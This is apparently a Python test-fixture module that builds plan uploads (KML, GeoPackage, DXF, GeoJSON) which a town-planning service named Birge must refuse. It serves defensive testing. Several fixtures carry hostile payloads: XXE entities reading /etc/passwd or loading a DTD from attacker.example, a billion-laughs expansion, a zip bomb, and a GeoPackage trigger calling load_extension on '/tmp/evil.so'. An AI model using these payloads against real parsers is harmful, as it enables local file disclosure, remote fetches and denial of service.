"""Official plan files (GeoJSON, GeoPackage, KML, DXF) that must be refused."""

from __future__ import annotations

import struct
import subprocess
import tempfile
from pathlib import Path
from typing import Any

from .common import (
    BOWTIE,
    DOCTYPE,
    PLACEMARK,
    ZEROS,
    dumps,
    geopackage,
    image_bytes,
    kml,
    plan_geojson,
    point,
    polygon,
    upload,
    zip_of,
)


def dxf(*entities: str, header: str = "") -> bytes:
    """A DXF with only an ENTITIES section (what GDAL needs)."""
    parts = []
    if header:
        parts.append(f"0\nSECTION\n2\nHEADER\n{header}0\nENDSEC\n")
    parts.append("0\nSECTION\n2\nENTITIES\n" + "".join(entities) + "0\nENDSEC\n")
    parts.append("0\nEOF\n")
    return "".join(parts).encode()


def dxf_point(layer: str, x: str, y: str) -> str:
    return f"0\nPOINT\n8\n{layer}\n10\n{x}\n20\n{y}\n30\n0.0\n"


def plans(folder: Path) -> None:
    def plan(name: str, content: bytes, filename: str, words: Any, why: str, **kw):
        upload(
            "plans",
            name,
            content,
            filename,
            words,
            why,
            endpoints=["official-plan"],
            **kw,
        )

    # XML that would make a reader fetch, expand or include other things.
    plan(
        "kml-external-entity",
        kml(
            "<Placemark><name>&secret;</name><Point><coordinates>76.931,52.041"
            "</coordinates></Point></Placemark>",
            '<?xml version="1.0"?>\n<!DOCTYPE kml [<!ENTITY secret SYSTEM '
            '"file:///etc/passwd">]>\n',
        ),
        "plan.kml",
        DOCTYPE,
        "XXE: an entity that reads a local file",
    )
    plan(
        "kml-billion-laughs",
        kml(
            "<Placemark><name>&lol9;</name></Placemark>",
            '<?xml version="1.0"?>\n<!DOCTYPE kml [<!ENTITY lol "lol">'
            + "".join(
                f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                for i in range(1, 10)
            )
            + "]>\n",
        ),
        "plan.kml",
        DOCTYPE,
        "a billion laughs: entities that expand to gigabytes",
    )
    plan(
        "kml-parameter-entity",
        kml(
            PLACEMARK,
            '<?xml version="1.0"?>\n<!DOCTYPE kml [<!ENTITY % remote SYSTEM '
            '"http://attacker.example/evil.dtd"> %remote;]>\n',
        ),
        "plan.kml",
        DOCTYPE,
        "a parameter entity that loads a remote DTD",
    )
    plan(
        "kml-doctype-lowercase",
        kml(
            PLACEMARK, '<?xml version="1.0"?>\n<!doctype kml SYSTEM "http://x/k.dtd">\n'
        ),
        "plan.kml",
        DOCTYPE,
        "a DOCTYPE in lower case, naming an external DTD",
    )
    plan(
        "kml-entity-spaced",
        kml(PLACEMARK, '<?xml version="1.0"?>\n<!  ENTITY x "y">\n'),
        "plan.kml",
        DOCTYPE,
        "an entity declaration with spaces after <!",
    )
    plan(
        "kml-network-link",
        kml(
            "<NetworkLink><Link><href>http://attacker.example/plan.kml</href>"
            "</Link></NetworkLink>"
        ),
        "plan.kml",
        ["NetworkLink"],
        "a NetworkLink to another file",
    )
    plan(
        "kml-network-link-prefixed",
        kml(
            '<kml:NetworkLink xmlns:kml="http://www.opengis.net/kml/2.2"><kml:Link>'
            "<kml:href>file:///etc/passwd</kml:href></kml:Link></kml:NetworkLink>"
        ),
        "plan.kml",
        ["NetworkLink"],
        "a NetworkLink with a namespace prefix, to a local file",
    )
    plan(
        "kml-utf16",
        kml(PLACEMARK).decode().encode("utf-16"),
        "plan.kml",
        ["UTF-16"],
        "KML saved as UTF-16",
    )
    plan(
        "kml-nul-bytes",
        kml(PLACEMARK).replace(b"bench", b"be\x00nch"),
        "plan.kml",
        ["not UTF-8 text"],
        "KML with NUL bytes in it",
    )
    plan(
        "kml-truncated",
        kml(PLACEMARK)[:120],
        "plan.kml",
        ["cannot be read"],
        "KML cut off in the middle of a tag",
    )
    plan(
        "kml-outside-town",
        kml(
            "<Placemark><name>bench</name><Point><coordinates>77.5,52.04"
            "</coordinates></Point></Placemark>"
        ),
        "plan.kml",
        ["outside Aksu"],
        "a KML bench outside the town",
    )
    plan(
        "kmz",
        zip_of({"doc.kml": kml(PLACEMARK)}),
        "plan.kmz",
        ["ZIP archive"],
        "KMZ (a zipped KML)",
    )
    plan(
        "kmz-named-kml",
        zip_of({"doc.kml": kml(PLACEMARK)}),
        "plan.kml",
        ["named as a KML file", "ZIP archive"],
        "KMZ given a .kml name",
    )
    plan(
        "zip-bomb",
        zip_of({"plan.kml": ZEROS}),
        "plan.kml",
        ["ZIP archive"],
        "a zip bomb named as KML",
    )

    # GeoPackages that run SQL, or are no GeoPackage.
    plan(
        "gpkg-view",
        geopackage(folder, "view", "CREATE VIEW sneaky AS SELECT * FROM objects"),
        "plan.gpkg",
        ["view “sneaky”"],
        "a GeoPackage with a view (SQL run on read)",
    )
    plan(
        "gpkg-trigger",
        geopackage(
            folder,
            "trigger",
            "CREATE TABLE loot (x TEXT)",
            "CREATE TRIGGER sneaky AFTER UPDATE ON objects BEGIN "
            "INSERT INTO loot VALUES (load_extension('/tmp/evil.so')); END",
        ),
        "plan.gpkg",
        ["trigger “sneaky”"],
        "a GeoPackage with a trigger of its own (SQL run on write)",
    )
    plan(
        "gpkg-virtual-table",
        geopackage(
            folder,
            "virtual",
            "CREATE VIRTUAL TABLE notes USING fts5(body)",
        ),
        "plan.gpkg",
        ["virtual table “notes”"],
        "a GeoPackage with a full-text virtual table",
    )
    plan(
        "gpkg-truncated",
        geopackage(folder, "truncated")[:4096],
        "plan.gpkg",
        ["cannot be read"],
        "a GeoPackage cut after its first page",
    )
    plan(
        "gpkg-outside-town",
        geopackage(folder, "outside", lon=77.5),
        "plan.gpkg",
        ["outside Aksu"],
        "a GeoPackage bench outside the town",
    )
    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "plain.sqlite"
        # A plain SQLite database (GDAL's SQLite driver, not GeoPackage).
        subprocess.run(
            ["ogr2ogr", "-f", "SQLite", str(path), "/vsistdin/", "-nln", "plan"],
            input=b'{"type": "FeatureCollection", "features": []}',
            check=True,
            capture_output=True,
        )
        plain = path.read_bytes()
    plan(
        "sqlite-not-gpkg",
        plain,
        "plan.gpkg",
        ["SQLite database, but not a GeoPackage"],
        "an SQLite database named .gpkg",
    )
    plan(
        "gpkg-header-garbage",
        b"SQLite format 3\x00\x10\x00"
        + bytes(42)
        + struct.pack(">I", 10300)  # GeoPackage 1.3
        + bytes(4)
        + b"GPKG"
        + b"\xa5" * 4000,
        "plan.gpkg",
        ["cannot be read"],
        "a GeoPackage header followed by garbage",
    )

    # DXF that is not, or holds nonsense.
    plan(
        "dxf-garbage",
        b"0\nSECTION\n2\nENTITIES\n0\nGARBAGE\n\xff\xfe\x00\x01 nonsense\n",
        "plan.dxf",
        ["cannot be read"],
        "a DXF section of garbage",
    )
    plan(
        "dxf-binary-garbage",
        b"AutoCAD Binary DXF\r\n\x1a\x00" + bytes(range(256)) * 8,
        "plan.dxf",
        ["cannot be read"],
        "a binary DXF header followed by garbage",
    )
    plan(
        "dxf-truncated",
        dxf(dxf_point("bench", "500000", "5765000"))[:40],
        "plan.dxf",
        ["cannot be read"],
        "a DXF cut off inside its first entity",
    )
    plan(
        "dxf-no-entities",
        dxf(),
        "plan.dxf",
        ["no features"],
        "a DXF with an empty ENTITIES section",
    )
    plan(
        "dxf-huge-coordinates",
        dxf(dxf_point("bench", "1e300", "1e300")),
        "plan.dxf",
        ["Entity 1"],
        "a DXF point at 10^300 metres",
    )
    plan(
        "dxf-nan-coordinates",
        dxf(dxf_point("bench", "nan", "inf")),
        "plan.dxf",
        ["Entity 1"],
        "a DXF point at NaN, infinity",
    )
    plan(
        "dxf-unknown-layer",
        dxf(dxf_point("walls", "500000", "5765000")),
        "plan.dxf",
        ["“walls” is not a kind"],
        "a DXF entity on a layer that is no kind",
    )
    plan(
        "elf-named-dxf",
        b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)),
        "plan.dxf",
        ["named as a DXF file"],
        "a program named .dxf",
    )

    # Names that lie about the content.
    bench_feature = {
        "type": "Feature",
        "properties": {"kind": "bench"},
        "geometry": point(76.931, 52.041),
    }
    for name, content, filename, words in [
        (
            "geojson-named-dxf",
            plan_geojson(bench_feature),
            "plan.dxf",
            ["named as a DXF file", "GeoJSON"],
        ),
        (
            "geojson-named-gpkg",
            plan_geojson(bench_feature),
            "plan.gpkg",
            ["named as a GeoPackage file"],
        ),
        (
            "kml-named-geojson",
            kml(PLACEMARK),
            "plan.geojson",
            ["named as a GeoJSON file", "KML"],
        ),
        (
            "dxf-named-kml",
            dxf(dxf_point("bench", "0", "0")),
            "plan.kml",
            ["named as a KML file", "DXF"],
        ),
        (
            "png-named-gpkg",
            image_bytes("PNG"),
            "plan.gpkg",
            ["named as a GeoPackage file"],
        ),
        (
            "csv-named-geojson",
            b"kind,lon,lat\nbench,76.931,52.041\n",
            "plan.geojson",
            ["named as a GeoJSON file"],
        ),
        (
            "shapefile-zip",
            zip_of({"plan.shp": b"\x00\x00\x27\x0a", "plan.dbf": b"", "plan.shx": b""}),
            "plan.zip",
            ["ZIP archive"],
        ),
        (
            "csv-plan",
            b"kind,lon,lat\nbench,76.931,52.041\n",
            "plan.csv",
            ["none of GeoJSON, GeoPackage, KML or DXF"],
        ),
        (
            "gpx",
            b'<?xml version="1.0"?><gpx version="1.1"><wpt lat="52.04" lon="76.93"/></gpx>',
            "plan.gpx",
            ["XML, but not KML"],
        ),
        ("empty", b"", "plan.geojson", ["empty"]),
        ("blank", b"\xef\xbb\xbf  \r\n\t", "plan.kml", ["empty"]),
    ]:
        plan(
            name,
            content,
            filename,
            words,
            f"a plan file that is not what it says: {name}",
        )

    # GeoJSON plans that are JSON but not a plan Birge takes.
    for name, content, words in [
        ("geojson-no-features", plan_geojson(), ["no features"]),
        (
            "geojson-not-a-collection",
            dumps(point(76.931, 52.041)),
            ["must be a FeatureCollection"],
        ),
        (
            "geojson-features-not-a-list",
            b'{"type": "FeatureCollection", "features": {}}',
            ["no list of “features”"],
        ),
        (
            "geojson-feature-a-string",
            plan_geojson("bench"),
            ["Feature 1 is not a GeoJSON Feature"],
        ),
        (
            "geojson-unknown-kind",
            plan_geojson(
                bench_feature, bench_feature | {"properties": {"kind": "pond"}}
            ),
            ["Feature 2", "“pond” is not a kind"],
        ),
        (
            "geojson-bowtie",
            plan_geojson(
                {
                    "type": "Feature",
                    "properties": {"kind": "plaza"},
                    "geometry": polygon(BOWTIE),
                }
            ),
            ["Feature 1", "crosses itself"],
        ),
        (
            "geojson-nan",
            b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"kind": "bench"}, "geometry": {"type": "Point", "coordinates": [NaN, 52.041]}}]}',
            ["Feature 1", "NaN"],
        ),
        (
            "geojson-outside-town",
            plan_geojson(bench_feature | {"geometry": point(77.5, 52.04)}),
            ["Feature 1", "outside Aksu"],
        ),
        (
            "geojson-deep",
            b'{"type": "FeatureCollection", "features": '
            + b"[" * 50_000
            + b"]" * 50_000
            + b"}",
            ["nested more than"],
        ),
        (
            "geojson-duplicate-keys",
            b'{"type": "FeatureCollection", "features": [], "features": [{"type": "Feature", "properties": {"kind": "bench"}, "geometry": {"type": "Point", "coordinates": [76.931, 52.041]}}]}',
            ["more than once"],
        ),
        (
            "geojson-nul-label",
            plan_geojson(
                bench_feature | {"properties": {"kind": "bench", "label": "a\u0000b"}}
            ),
            ["NUL"],
        ),
        (
            "geojson-invalid-utf8",
            plan_geojson(bench_feature).replace(b"bench", b"b\xffnch"),
            ["not UTF-8"],
        ),
        (
            "geojson-number-5000-digits",
            b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"kind": "bench"}, "geometry": {"type": "Point", "coordinates": ['
            + b"7" * 5000
            + b", 52.041]}}]}",
            ["thousands of digits"],
        ),
        (
            "geojson-3857-crs-metres",
            plan_geojson(bench_feature | {"geometry": point(8563812.5, 6801434.2)}),
            ["Feature 1"],
        ),
        (
            "geojson-too-large",
            plan_geojson(
                *[bench_feature | {"properties": {"kind": "bench", "label": "x" * 100}}]
                * 20
            ),
            ["larger than"],
        ),
        (
            "geojson-too-many-features",
            plan_geojson(*[bench_feature] * 5),
            ["more than 3 features"],
        ),
    ]:
        extra: dict[str, Any] = {}
        if name == "geojson-too-large":
            extra = {"status": [413], "settings": {"BIRGE_PLAN_MAX_BYTES": 1_000}}
        if name == "geojson-too-many-features":
            extra = {"settings": {"BIRGE_PLAN_MAX_FEATURES": 3}}
        plan(
            name,
            content,
            "plan.geojson",
            words,
            f"a GeoJSON plan Birge must refuse: {name}",
            **extra,
        )
